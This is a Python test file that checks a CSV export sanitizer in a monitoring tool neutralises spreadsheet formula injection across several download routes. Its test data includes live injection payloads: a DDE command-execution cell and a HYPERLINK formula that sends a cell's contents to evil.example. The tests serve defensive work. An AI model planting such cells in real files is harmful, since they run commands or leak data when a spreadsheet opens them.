"""CSV from the desk: nothing that a spreadsheet runs, and otherwise what the table says."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import make
from desks import desk_over, let_in, store
from monitor.review.spreadsheet import without_formulas

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+1",
    "-2+3+cmd",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "=1\nsecond line",
    "-",
    "+49 30 1234",
)
HARMLESS = ("-10", "+5", "-1.5e-3", "1-2", "a=b", "", "'=1", "\n=1", '"=1"', "−5", "2026-01-01")


def row(cells: tuple[str, ...]) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerow(cells)
    return text.getvalue().encode()


def cells(line: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(line.decode(), newline="")))


def test_formulas_become_text_and_the_rest_stays() -> None:
    line = without_formulas(row(("first", *FORMULAS, *HARMLESS)))
    assert cells(line) == ["first", *(f"'{formula}" for formula in FORMULAS), *HARMLESS]
    for cell in HARMLESS[:5]:
        assert without_formulas(row((cell,))) == row((cell,))


@given(st.lists(st.text(alphabet='=+-@,"\r\n\t a1.e', max_size=8), min_size=1, max_size=4).map(tuple))
def test_a_row_keeps_its_cells(written: tuple[str, ...]) -> None:
    kept = cells(without_formulas(row(written)))
    assert [cell.removeprefix("'") for cell in kept] == [cell.removeprefix("'") for cell in written]
    for cell in kept:
        assert not cell.startswith(("=", "@", "\t", "\r"))


@pytest.mark.parametrize("asked", ["", "?_stream=1", "?_dl=1", "?_labels=on"])
async def test_tables_and_queries_leave_without_formulas(tmp_path: Path, asked: str) -> None:
    path = tmp_path / "monitor.db"
    formula = '=HYPERLINK("https://evil.example","a, b")'
    store(path, (make.article("A text.", title=formula), make.hit()), feed_name="@SUM(1)")
    connection = sqlite3.connect(path)
    connection.execute(
        "insert into hit_reasons select null, hit_id, version_id, kind, '-1+2', -10, concept, term,"
        " field, start, end, quote, note from hit_reasons limit 1"
    )
    connection.commit()
    connection.close()
    async with desk_over(path) as desk, let_in(desk) as ana:
        query = f"/monitor/-/query.csv{asked or '?'}&sql=select+title,-10,'-a'+from+articles"
        for route in (f"/monitor/hit_list.csv{asked}", f"/monitor/articles.csv{asked}", query):
            answer = await ana.get(route)
            assert answer.status_code == 200
            table = list(csv.reader(io.StringIO(answer.text, newline="")))
            assert f"'{formula}" in table[1], route
        assert table[1] == [f"'{formula}", "-10", "'-a"]
        feeds = (await ana.get(f"/monitor/feeds.csv{asked}")).text
        assert "'@SUM(1)" in feeds
        reasons = (await ana.get(f"/monitor/hit_reasons.csv{asked}")).text
        assert ",'-1+2,-10," in reasons
        assert (await ana.get(f"/monitor/none.csv{asked}")).status_code == 404
